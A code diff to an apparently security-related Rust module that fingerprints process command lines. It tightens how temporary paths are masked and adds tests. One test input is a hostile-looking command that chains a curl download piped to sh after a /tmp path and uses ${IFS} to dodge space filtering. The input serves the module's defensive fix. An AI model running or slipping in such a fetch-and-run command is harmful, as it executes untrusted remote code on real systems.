@@ -4,8 +4,8 @@
 //! changes from run to run: PIDs, times, and in paths and arguments whatever looks like a number, an
 //! identifier or a temporary name.
 //!
-//! It is BLAKE3 cut to 128 bits, so that nobody can make a lineage that has another's fingerprint, save
-//! by running the same programs in the same way.
+//! It is BLAKE3 cut to 128 bits, so that lineages share a fingerprint only if they run the same programs by
+//! the same arguments, but for what is left out.
 
 use std::sync::OnceLock;
 
@@ -124,11 +124,13 @@ const TEMPORARY: [&[u8]; 3] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/"];
 fn reduce(text: &[u8], arguments: bool, mut pass: impl FnMut(&[u8])) {
     let mut rest = text;
     while !rest.is_empty() {
+        let before = text[..text.len() - rest.len()].last();
+        let begins_path = arguments && before.is_none_or(|&byte| !is_of_name(byte));
         let temporary = TEMPORARY.iter().find(|path| rest.starts_with(path));
-        if let Some(path) = temporary.filter(|_| arguments) {
+        if let Some(path) = temporary.filter(|_| begins_path) {
             pass(path);
             pass(b"*");
-            rest = skip(&rest[path.len()..], |byte| byte > b' ' && byte != b'/');
+            rest = skip(&rest[path.len()..], is_of_name);
             continue;
         }
         let after = skip(rest, |byte| byte.is_ascii_alphanumeric());
@@ -154,6 +156,11 @@ fn reduce(text: &[u8], arguments: bool, mut pass: impl FnMut(&[u8])) {
             rest = after;
         }
     }
+}
+
+/// What `mktemp` and its like make names of, and what programs add to them.
+fn is_of_name(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || b"._+-".contains(&byte)
 }
 
 /// What is left of `text` behind the bytes that `belongs` takes.
@@ -226,6 +233,11 @@ mod tests {
                 "cc\0/tmp/*\0-o\0/tmp/*/b.o\0",
             ),
             ("--dir=/x/tmp.Ab3dE9\0", "--dir=/x/tmp.*\0"),
+            (
+                "sh\0-c\0/tmp/x;curl${IFS}-s http://a|sh\0",
+                "sh\0-c\0/tmp/*;curl${IFS}-s http://a|sh\0",
+            ),
+            ("/srv/tmp/data\0", "/srv/tmp/data\0"),
             ("sshd: root@pts/3\0", "sshd: root@pts/#\0"),
             ("cafe\0deadbeef\0", "cafe\0deadbeef\0"),
         ] {
